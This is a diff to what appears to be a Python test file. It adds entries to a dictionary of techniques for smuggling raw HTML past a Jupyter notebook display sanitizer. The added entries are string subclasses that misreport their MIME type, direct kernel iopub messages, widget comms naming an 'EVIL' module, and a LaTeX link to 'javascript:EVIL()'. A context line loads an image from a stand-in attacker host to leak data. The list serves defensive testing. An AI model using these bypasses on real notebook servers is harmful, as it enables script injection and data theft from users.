@@ -66,6 +66,14 @@ WAYS = {
     "another thread": "import threading\nt = threading.Thread(target=lambda: display({'text/html': html}, raw=True))\nt.start()\nt.join()",
     "in spite of a handler": "try:\n    display({'text/html': html}, raw=True)\nexcept BaseException:\n    pass",
     "an image of another server": "display({'text/html': '<img src=\"https://EVIL.example/?rows=1\">'}, raw=True)",
+    # Classes that answer otherwise when they are looked at than when they are sent:
+    "a text that hides itself": "class S(str):\n    def __radd__(self, other): return ''\ndisplay({'text/html': S(html)}, raw=True)",
+    "a type that hides itself": "class S(str):\n    def lower(self): return 'text/plain'\n    __str__ = lower\ndisplay({S('text/html'): html}, raw=True)",
+    "a bundle that hides itself": "class B(dict):\n    n = 0\n    def items(self):\n        self.n += 1\n        return dict.items(self) if self.n > 3 else {}.items()\nk = get_ipython().kernel\nk.session.send(k.iopub_socket, 'display_data', {'data': B({'text/html': html}), 'metadata': {}})",
+    "a message that hides what it is": "class S(str):\n    def __str__(self): return 'stream'\nk = get_ipython().kernel\nk.session.send(k.iopub_socket, S('display_data'), {'data': {'text/html': html}, 'metadata': {}})",
+    "a list where a text is expected": "import comm\nc = '@jupyter-widgets/controls'\ncomm.create_comm(target_name='jupyter.widget', data={'state': {'_model_module': c, '_view_module': c, '_model_name': 'HTMLModel', 'value': [html]}})",
+    "a view of another module": "import comm\ncomm.create_comm(target_name='jupyter.widget', data={'state': {'_model_module': '@jupyter-widgets/controls', '_view_module': 'EVIL'}})",
+    "a formula": "display({'text/html': r'<p>$\\href{javascript:EVIL()}{x}$</p>'}, raw=True)",
 }
 STILL = {
     "a table": "import pandas as pd\npd.DataFrame({'a': [1, 2]})",
